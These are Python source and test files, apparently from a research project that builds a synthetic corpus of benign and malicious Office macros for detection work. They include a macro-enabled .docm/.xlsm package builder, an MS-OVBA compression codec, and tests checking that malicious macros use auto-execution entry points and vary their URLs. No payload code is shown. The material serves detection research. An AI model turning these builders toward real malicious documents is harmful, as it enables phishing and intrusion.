            archive, "_rels/.rels", _ROOT_RELS_TEMPLATE.format(main_part=main_part)
        )
        _writestr(
            archive, f"{main_dir}/_rels/{main_part_name}.rels", _PART_RELS_TEMPLATE
        )
        _writestr(archive, main_part, main_xml)
        _writestr(archive, f"{main_dir}/vbaProject.bin", vba_project)
        for name, data in (extra_parts or {}).items():
            _writestr(archive, name, data)
        if padding > 0:
            # Benign documents in the paper's corpus average ~1.1 MB thanks
            # to embedded media; a stored (uncompressed) filler part
            # reproduces that size signal.
            _writestr(
                archive,
                "media/filler.bin",
                b"\x00" * padding,
                compress_type=zipfile.ZIP_STORED,
            )
    return buffer.getvalue()


def build_docm(
    vba_project: bytes,
    body_text: str = "",
    extra_parts: dict[str, bytes] | None = None,
    padding: int = 0,
) -> bytes:
    """Build a macro-enabled Word package around a vbaProject.bin blob."""
    return _build_package(
        "word",
        "document.xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        _WORD_DOCUMENT_XML.format(body_text=_xml_escape(body_text)),
        vba_project,
        extra_parts,
        padding,
    )


def build_xlsm(
    vba_project: bytes,
    sheet_name: str = "Sheet1",
    extra_parts: dict[str, bytes] | None = None,
    padding: int = 0,
) -> bytes:
    """Build a macro-enabled Excel package around a vbaProject.bin blob."""
    return _build_package(
        "xl",
        "workbook.xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        _XL_WORKBOOK_XML.format(sheet_name=_xml_escape(sheet_name)),
        vba_project,
        extra_parts,
        padding,
    )


def _xml_escape(text: str) -> str:
    return (
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    )


def is_zip(data: bytes) -> bool:
    return data[:4] in (b"PK\x03\x04", b"PK\x05\x06", b"PK\x07\x08")


def read_vba_part(data: bytes) -> bytes:
    """Locate and return the vbaProject.bin part of an OOXML package."""
    if not is_zip(data):
        raise OOXMLError("not a zip package")
    with _open_archive(data) as archive:
        candidates = [
            name
            for name in archive.namelist()
            if name.lower().endswith("vbaproject.bin")
        ]
        if not candidates:
            raise OOXMLError("package has no vbaProject.bin part")
        try:
            return archive.read(candidates[0])
        except _ZIP_READ_ERRORS as error:
            raise OOXMLError(f"unreadable vbaProject.bin part: {error}") from error


def read_part(data: bytes, part_name: str) -> bytes | None:
    """Read one named part, or None when absent."""
    with _open_archive(data) as archive:
        try:
            return archive.read(part_name)
        except KeyError:
            return None
        except _ZIP_READ_ERRORS as error:
            raise OOXMLError(f"unreadable part {part_name!r}: {error}") from error


def list_parts(data: bytes) -> list[str]:
    with _open_archive(data) as archive:
        return archive.namelist()
