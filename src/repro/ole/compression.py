"""MS-OVBA §2.4.1 compression — the codec VBA module streams use.

Office stores VBA source inside module streams compressed with a run-length /
LZ77 hybrid.  A *CompressedContainer* is a signature byte ``0x01`` followed
by chunks; each chunk holds up to 4096 decompressed bytes and starts with a
2-byte little-endian header:

* bits 0–11: (chunk size − 3),
* bits 12–14: signature ``0b011``,
* bit 15: 1 = compressed, 0 = raw (4096 literal bytes follow).

Compressed chunk data is a sequence of token groups: one flag byte, then 8
tokens.  Flag bit *i* = 0 → the token is a literal byte; 1 → a 2-byte
*CopyToken* encoding (offset, length) into the already-decompressed chunk.
The offset/length bit split varies with the current position in the chunk::

    bit_count   = max(ceil(log2(position)), 4)
    length_mask = 0xFFFF >> bit_count
    offset      = (token >> (16 - bit_count)) + 1
    length      = (token & length_mask) + 3

Both directions are implemented: :func:`decompress` (what olevba needs) and
:func:`compress` (what the document builder needs).  ``decompress(compress(x))
== x`` is property-tested for arbitrary byte strings.
"""

from __future__ import annotations

SIGNATURE_BYTE = 0x01
CHUNK_SIZE = 4096
_CHUNK_SIG = 0b011


class OVBACompressionError(ValueError):
    """Raised on malformed compressed containers."""


def _copy_token_parameters(position: int) -> tuple[int, int, int]:
    """Return (length_mask, offset_mask, bit_count) for a chunk position.

    ``position`` is the number of bytes already decompressed in the current
    chunk (must be >= 1: a copy token can never be the first token).
    """
    bit_count = 4
    while (1 << bit_count) < position:
        bit_count += 1
    bit_count = max(bit_count, 4)
    bit_count = min(bit_count, 12)
    length_mask = 0xFFFF >> bit_count
    offset_mask = (~length_mask) & 0xFFFF
    return length_mask, offset_mask, bit_count


# ----------------------------------------------------------------------
# Decompression


def decompress(data: bytes) -> bytes:
    """Decompress a CompressedContainer back to the original bytes."""
    if not data:
        raise OVBACompressionError("empty container")
    if data[0] != SIGNATURE_BYTE:
        raise OVBACompressionError(
            f"bad container signature byte: {data[0]:#04x}"
        )
    output = bytearray()
    position = 1
    while position < len(data):
        if position + 2 > len(data):
            raise OVBACompressionError("truncated chunk header")
        header = int.from_bytes(data[position : position + 2], "little")
        position += 2
        chunk_data_size = (header & 0x0FFF) + 3 - 2
        signature = (header >> 12) & 0b111
        if signature != _CHUNK_SIG:
            raise OVBACompressionError(
                f"bad chunk signature: {signature:#05b}"
            )
        compressed = bool(header & 0x8000)
        chunk_end = position + chunk_data_size
        if chunk_end > len(data):
            raise OVBACompressionError("chunk runs past end of container")
        if not compressed:
            output.extend(data[position:chunk_end])
            position = chunk_end
            continue
        position = _decompress_chunk(data, position, chunk_end, output)
    return bytes(output)


def _decompress_chunk(
    data: bytes, position: int, chunk_end: int, output: bytearray
) -> int:
    chunk_start_in_output = len(output)
    while position < chunk_end:
        flags = data[position]
        position += 1
        for bit in range(8):
            if position >= chunk_end:
                break
            decompressed_in_chunk = len(output) - chunk_start_in_output
            if flags & (1 << bit):
                if position + 2 > chunk_end:
                    raise OVBACompressionError("truncated copy token")
                token = int.from_bytes(data[position : position + 2], "little")
                position += 2
                length_mask, _, bit_count = _copy_token_parameters(
                    decompressed_in_chunk
                )
                length = (token & length_mask) + 3
                offset = (token >> (16 - bit_count)) + 1
                if offset > decompressed_in_chunk:
                    raise OVBACompressionError(
                        f"copy token offset {offset} reaches before chunk start"
                    )
                source = len(output) - offset
                # Overlapping copies are legal (RLE): copy byte-by-byte.
                for step in range(length):
                    output.append(output[source + step])
            else:
                output.append(data[position])
                position += 1
    return position


# ----------------------------------------------------------------------
# Compression


#: Largest chunk-data payload the 12-bit size field can describe.
_MAX_CHUNK_DATA = 4095


def compress(data: bytes) -> bytes:
    """Compress bytes into a CompressedContainer.

    Round-trip exact for arbitrary input.  Incompressible *full* chunks fall
    back to the spec's raw encoding (exactly 4096 literal bytes, no padding
    needed); an incompressible *partial* final chunk is split into smaller
    chunks instead, avoiding the spec's lossy raw-chunk padding.
    """
    output = bytearray([SIGNATURE_BYTE])
    for chunk_start in range(0, len(data), CHUNK_SIZE):
        chunk = data[chunk_start : chunk_start + CHUNK_SIZE]
        _emit_chunk(chunk, output)
    return bytes(output)


def _emit_chunk(chunk: bytes, output: bytearray) -> None:
    compressed = _compress_chunk(chunk)
    if len(compressed) <= _MAX_CHUNK_DATA and len(compressed) < len(chunk):
        header = 0x8000 | (_CHUNK_SIG << 12) | ((len(compressed) + 2) - 3)
        output.extend(header.to_bytes(2, "little"))
        output.extend(compressed)
        return
    if len(chunk) == CHUNK_SIZE:
        # Raw chunk: exactly 4096 literal bytes, the spec's fallback.
        header = (_CHUNK_SIG << 12) | ((CHUNK_SIZE + 2) - 3)
        output.extend(header.to_bytes(2, "little"))
        output.extend(chunk)
        return
    if len(compressed) <= _MAX_CHUNK_DATA:
        # Partial chunk whose compressed form fits but did not shrink —
        # still store it compressed to stay byte-exact (no padding).
        header = 0x8000 | (_CHUNK_SIG << 12) | ((len(compressed) + 2) - 3)
        output.extend(header.to_bytes(2, "little"))
        output.extend(compressed)
        return
    # Incompressible partial chunk too large for one compressed chunk:
    # split it — decompression simply concatenates chunks.
    middle = len(chunk) // 2
    _emit_chunk(chunk[:middle], output)
    _emit_chunk(chunk[middle:], output)


def _compress_chunk(chunk: bytes) -> bytes:
    """Greedy LZ77 within one chunk, emitting flag-byte token groups."""
    result = bytearray()
    position = 0
    n = len(chunk)
    # Index of 3-byte prefixes already seen → candidate match positions.
    candidates: dict[bytes, list[int]] = {}

    while position < n:
        flag = 0
        group = bytearray()
        for bit in range(8):
            if position >= n:
                break
            match = _find_match(chunk, position, candidates)
            if match is not None:
                offset, length = match
                length_mask, _, bit_count = _copy_token_parameters(position)
                token = ((offset - 1) << (16 - bit_count)) | (length - 3)
                group.extend(token.to_bytes(2, "little"))
                flag |= 1 << bit
                for advance in range(length):
                    _index_position(chunk, position + advance, candidates)
                position += length
            else:
                group.append(chunk[position])
                _index_position(chunk, position, candidates)
                position += 1
        result.append(flag)
        result.extend(group)
    return bytes(result)


def _index_position(chunk: bytes, position: int, candidates: dict) -> None:
    if position + 3 <= len(chunk):
        key = chunk[position : position + 3]
        candidates.setdefault(key, []).append(position)


def _find_match(
    chunk: bytes, position: int, candidates: dict
) -> tuple[int, int] | None:
    """Find the longest legal back-reference at ``position``."""
    if position == 0 or position + 3 > len(chunk):
        return None
    length_mask, _, bit_count = _copy_token_parameters(position)
    max_length = length_mask + 3
    max_offset = 1 << bit_count
    key = chunk[position : position + 3]
    positions = candidates.get(key)
    if not positions:
        return None
    best: tuple[int, int] | None = None
    # Newest candidates first: smaller offsets, typically longer legal runs.
    for start in reversed(positions[-32:]):
        offset = position - start
        if offset > max_offset or offset < 1:
            continue
        limit = min(max_length, len(chunk) - position)
        length = 0
        while length < limit:
            # Self-overlapping matches are legal (RLE): a source index at or
            # past ``position`` refers to bytes the copy itself produced,
            # which repeat with period ``offset``.
            source = start + (length % offset if length >= offset else length)
            if chunk[source] != chunk[position + length]:
                break
            length += 1
        if length >= 3 and (best is None or length > best[1]):
            best = (offset, length)
            if length == max_length:
                break
    return best
