"""Tests for the synthetic corpus generators and builder."""

import random

import pytest

from repro.corpus.benign import BENIGN_FAMILIES, generate_benign_macro
from repro.corpus.builder import CorpusBuilder, paper_profile
from repro.corpus.documents import build_document_bytes, make_document
from repro.corpus.malicious import MALICIOUS_FAMILIES, generate_malicious_macro
from repro.ole.extractor import extract_macros
from repro.vba.analyzer import analyze
from repro.vba.functions import AUTO_EXEC_PROCEDURES


class TestBenignTemplates:
    @pytest.mark.parametrize("index", range(len(BENIGN_FAMILIES)))
    def test_every_family_lexes_and_has_declarations(self, index):
        _, family = BENIGN_FAMILIES[index]
        source = family(random.Random(3))
        analysis = analyze(source)
        assert analysis.procedure_names, source
        assert len(source) >= 150  # above the paper's insignificance cutoff

    def test_variation_across_seeds(self):
        outputs = {generate_benign_macro(random.Random(seed)) for seed in range(30)}
        assert len(outputs) >= 25  # near-unique across seeds

    def test_host_filter(self):
        rng = random.Random(0)
        for _ in range(10):
            source = generate_benign_macro(rng, host="word")
            assert "Workbook" not in source.split("(")[0]

    def test_benign_macros_use_meaningful_names(self):
        source = generate_benign_macro(random.Random(5))
        analysis = analyze(source)
        # Meaningful identifiers contain vowels (random strings often don't).
        vowelish = sum(
            1
            for name in analysis.declared_identifiers
            if any(v in name.lower() for v in "aeiou")
        )
        assert vowelish >= len(analysis.declared_identifiers) * 0.8


class TestMaliciousTemplates:
    @pytest.mark.parametrize("family", MALICIOUS_FAMILIES)
    @pytest.mark.parametrize("host", ["word", "excel"])
    def test_every_family_lexes(self, family, host):
        source = family(random.Random(4), host)
        analysis = analyze(source)
        assert analysis.procedure_names

    @pytest.mark.parametrize("host", ["word", "excel"])
    def test_auto_exec_entry_point(self, host):
        rng = random.Random(1)
        for _ in range(10):
            source = generate_malicious_macro(rng, host)
            analysis = analyze(source)
            entry_points = {p.lower() for p in analysis.procedure_names}
            assert entry_points & AUTO_EXEC_PROCEDURES

    def test_urls_vary(self):
        rng = random.Random(2)
        sources = [generate_malicious_macro(rng, "word") for _ in range(20)]
        assert len(set(sources)) == 20


class TestDocumentAssembly:
    def test_all_four_formats_round_trip(self):
        source = generate_benign_macro(random.Random(0), host="excel")
        for file_format in ("doc", "xls", "docm", "xlsm"):
            blob = build_document_bytes([source], file_format)
            result = extract_macros(blob)
            assert result.sources == [source]

    def test_document_variables_travel_with_file(self):
        source = "Sub A()\n    x = 1\nEnd Sub\n"
        hidden = {"UserForm1.Label1.Caption": "secret"}
        for file_format in ("doc", "docm"):
            blob = build_document_bytes([source], file_format, hidden)
            assert extract_macros(blob).document_variables == hidden

    def test_padding_grows_legacy_files(self):
        source = "Sub A()\n    x = 1\nEnd Sub\n"
        small = build_document_bytes([source], "doc")
        large = build_document_bytes([source], "doc", padding=400_000)
        assert len(large) > len(small) + 300_000

    def test_empty_sources_rejected(self):
        with pytest.raises(ValueError):
            build_document_bytes([], "doc")

    def test_unknown_format_rejected(self):
        with pytest.raises(ValueError):
            build_document_bytes(["Sub A()\nEnd Sub\n"], "pdf")

    def test_make_document_flag_mismatch(self):
        with pytest.raises(ValueError):
            make_document(
                random.Random(0), ["Sub A()\nEnd Sub\n"], [True, False],
                is_malicious=False, file_format="doc",
            )


class TestProfileScaling:
    def test_paper_profile_matches_table2(self):
        profile = paper_profile()
        assert profile.benign_word_files == 75
        assert profile.benign_excel_files == 698
        assert profile.malicious_word_files == 1410
        assert profile.malicious_excel_files == 354
        assert profile.benign_macros_total == 3380
        assert profile.malicious_unique_macros == 832
        assert profile.malicious_obfuscated_macros == 819
        assert profile.benign_obfuscated_macros == 58

    def test_scaling_preserves_ratios(self):
        scaled = paper_profile().scaled(0.2)
        assert scaled.malicious_word_files == round(1410 * 0.2)
        ratio = scaled.malicious_obfuscated_macros / scaled.malicious_unique_macros
        assert ratio > 0.9  # 98.4% at full scale

    def test_invalid_scale(self):
        with pytest.raises(ValueError):
            paper_profile().scaled(0.0)
        with pytest.raises(ValueError):
            paper_profile().scaled(1.5)


class TestCorpusBuilder:
    @pytest.fixture(scope="class")
    def corpus(self):
        return CorpusBuilder(paper_profile().scaled(0.05), seed=7).build()

    def test_file_counts_match_profile(self, corpus):
        profile = corpus.profile
        assert len(corpus.benign_documents) == (
            profile.benign_word_files + profile.benign_excel_files
        )
        assert len(corpus.malicious_documents) == (
            profile.malicious_word_files + profile.malicious_excel_files
        )

    def test_benign_files_are_larger_on_average(self, corpus):
        summary = corpus.summary()
        assert summary["benign"]["avg_size"] > 3 * summary["malicious"]["avg_size"]

    def test_obfuscation_rates_match_paper_shape(self, corpus):
        malicious_sources = set()
        for doc in corpus.malicious_documents:
            malicious_sources.update(doc.macro_sources)
        obfuscated = sum(1 for s in malicious_sources if corpus.truth[s])
        rate = obfuscated / len(malicious_sources)
        assert rate > 0.85  # paper: 98.4%

        benign_sources = set()
        for doc in corpus.benign_documents:
            benign_sources.update(doc.macro_sources)
        benign_rate = sum(1 for s in benign_sources if corpus.truth[s]) / len(
            benign_sources
        )
        assert benign_rate < 0.1  # paper: 1.7%

    def test_malicious_macros_are_reused_across_files(self, corpus):
        sources = [
            source
            for doc in corpus.malicious_documents
            for source in doc.macro_sources
        ]
        assert len(set(sources)) < len(sources) * 0.8

    def test_every_document_extractable(self, corpus):
        for doc in corpus.documents[:40]:
            result = extract_macros(doc.data)
            assert result.sources == doc.macro_sources

    def test_deterministic_given_seed(self):
        profile = paper_profile().scaled(0.02)
        a = CorpusBuilder(profile, seed=9).build()
        b = CorpusBuilder(profile, seed=9).build()
        assert [d.data for d in a.documents] == [d.data for d in b.documents]

    def test_different_seeds_differ(self):
        profile = paper_profile().scaled(0.02)
        a = CorpusBuilder(profile, seed=1).build()
        b = CorpusBuilder(profile, seed=2).build()
        assert [d.data for d in a.documents] != [d.data for d in b.documents]
