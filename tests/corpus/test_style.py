"""Tests for style augmentation, compact style, and the expression wrapper."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.corpus.benign import compact_style, generate_benign_macro
from repro.corpus.style import apply_style
from repro.vba.lexer import significant_tokens
from repro.vba.tokens import TokenKind
from repro.vba.writer import CodeWriter, chunk_string, wrap_vba_expression

SAMPLE = (
    "Sub Report()\n"
    "    Dim total As Double\n"
    "    total = 0\n"
    "    total = total + 1\n"
    "    MsgBox total\n"
    "End Sub\n"
)


def token_texts(source: str) -> list[str]:
    """Significant non-layout tokens — the style-invariant content."""
    return [
        t.text
        for t in significant_tokens(source)
        if t.kind is not TokenKind.COMMENT
    ]


class TestApplyStyle:
    def test_tokens_preserved(self):
        for seed in range(10):
            styled = apply_style(SAMPLE, random.Random(seed))
            assert token_texts(styled) == token_texts(SAMPLE) or (
                # keyword-case shuffling changes text case only
                [t.lower() for t in token_texts(styled)]
                == [t.lower() for t in token_texts(SAMPLE)]
            )

    def test_styles_vary_across_seeds(self):
        outputs = {apply_style(SAMPLE, random.Random(seed)) for seed in range(20)}
        assert len(outputs) > 5

    def test_banner_and_recorded_headers_are_comments(self):
        for seed in range(30):
            styled = apply_style(
                SAMPLE, random.Random(seed),
                banner_probability=1.0, recorded_probability=1.0,
            )
            first_line = styled.splitlines()[0]
            assert first_line.startswith("'")

    @settings(max_examples=20, deadline=None)
    @given(st.integers(min_value=0, max_value=2**31))
    def test_styled_generated_macros_still_lex(self, seed):
        rng = random.Random(seed)
        styled = apply_style(generate_benign_macro(rng), rng)
        tokens = significant_tokens(styled)
        assert tokens  # lexes without error and is non-empty


class TestCompactStyle:
    def test_joins_simple_statements(self):
        out = compact_style(SAMPLE, random.Random(0), join_probability=1.0)
        assert ": " in out
        assert len(out.splitlines()) < len(SAMPLE.splitlines())

    def test_never_joins_block_boundaries(self):
        source = (
            "Sub A()\n"
            "    If x Then\n"
            "        y = 1\n"
            "    End If\n"
            "End Sub\n"
        )
        out = compact_style(source, random.Random(0), join_probability=1.0)
        assert "Then: " not in out
        assert ": End If" not in out

    def test_tokens_preserved(self):
        out = compact_style(SAMPLE, random.Random(1), join_probability=1.0)
        # Colon separators are layout; all other tokens survive in order.
        kept = [t for t in token_texts(out) if t != ":"]
        assert kept == [t for t in token_texts(SAMPLE) if t != ":"]


class TestWrapExpression:
    def test_short_expression_unchanged(self):
        assert wrap_vba_expression("1 + 2") == "1 + 2"

    def test_long_expression_gets_continuations(self):
        expression = " & ".join(f'"{i:03d}"' for i in range(40))
        wrapped = wrap_vba_expression(expression)
        assert " _\n" in wrapped

    def test_wrapping_preserves_tokens(self):
        expression = "F(" + ", ".join(str(i) for i in range(60)) + ")"
        wrapped = wrap_vba_expression(expression)
        original = significant_tokens(expression)
        rewrapped = significant_tokens(wrapped)
        assert [t.text for t in original] == [t.text for t in rewrapped]

    def test_never_breaks_inside_strings(self):
        expression = '"' + ", ".join("x" * 5 for _ in range(30)) + '" & "tail"'
        wrapped = wrap_vba_expression(expression)
        for line in wrapped.splitlines():
            # Quotes balance on every physical line.
            assert line.count('"') % 2 == 0

    @settings(max_examples=40, deadline=None)
    @given(
        st.lists(
            st.text(
                alphabet=st.characters(
                    min_codepoint=32, max_codepoint=126, exclude_characters='"'
                ),
                max_size=12,
            ),
            min_size=2,
            max_size=30,
        )
    )
    def test_property_token_preservation(self, chunks):
        expression = " & ".join(f'"{chunk}"' for chunk in chunks)
        wrapped = wrap_vba_expression(expression, width=30)
        assert [t.text for t in significant_tokens(expression)] == [
            t.text for t in significant_tokens(wrapped)
        ]


class TestCodeWriterHelpers:
    def test_block_context_manager(self):
        writer = CodeWriter()
        with writer.block("Sub A()", "End Sub"):
            writer.line("x = 1")
        assert writer.render() == "Sub A()\n    x = 1\nEnd Sub\n"

    def test_dedent_below_zero_raises(self):
        with pytest.raises(ValueError):
            CodeWriter().dedent()

    def test_chunk_string(self):
        assert chunk_string("abcdef", 2) == ["ab", "cd", "ef"]
        assert chunk_string("abc", 5) == ["abc"]
        with pytest.raises(ValueError):
            chunk_string("abc", 0)

    def test_raw_multiline(self):
        writer = CodeWriter()
        writer.raw("a\nb")
        assert writer.render() == "a\nb\n"
